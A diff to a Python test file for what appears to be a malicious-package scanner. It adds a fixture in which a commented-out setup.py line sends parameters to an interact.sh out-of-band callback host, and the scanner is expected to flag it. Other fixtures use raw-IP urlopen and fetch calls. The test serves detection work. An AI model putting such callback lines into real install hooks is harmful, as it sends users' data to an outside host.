@@ -120,13 +120,15 @@ def test_a_webhook_services_own_prefix_names_no_webhook(tmp_path: Path) -> None:
 def test_an_address_in_a_comment_connects_to_nothing(tmp_path: Path) -> None:
     """dpkt's setup.py explains ``# ... e.g. '1.2.3.4'`` (a four-part version) in a comment:
     no endpoint. The same address in a statement, also after the comment, or in a comment of
-    another language's marker, is one."""
+    another language's marker, is one; so is a probe's callback service, commented out."""
     comment = "# The MSI build target does not support a 4 digit version, e.g. '1.2.3.4'\n"
     cases = {
         "comment": ("setup.py", comment),
         "after": ("setup.py", comment + "urlopen('http://1.2.3.4/x')\n"),
         "js": ("install.js", "const a = 1;\nfetch('http://1.2.3.4/x')\n"),
         "js-comment": ("install.js", "  // see http://1.2.3.4/x\n"),
+        # a probe's callback service commented out of an install hook is still a probe
+        "oob": ("setup.py", '    # requests.get("https://c0ffee1234.interact.sh", params=p)\n'),
     }
     found = {}
     for case, (name, text) in cases.items():
@@ -138,4 +140,5 @@ def test_an_address_in_a_comment_connects_to_nothing(tmp_path: Path) -> None:
         "after": [("ind-raw-ip", 2)],
         "js": [("ind-raw-ip", 2)],
         "js-comment": [],
+        "oob": [("ind-oob-interaction", 1)],
     }
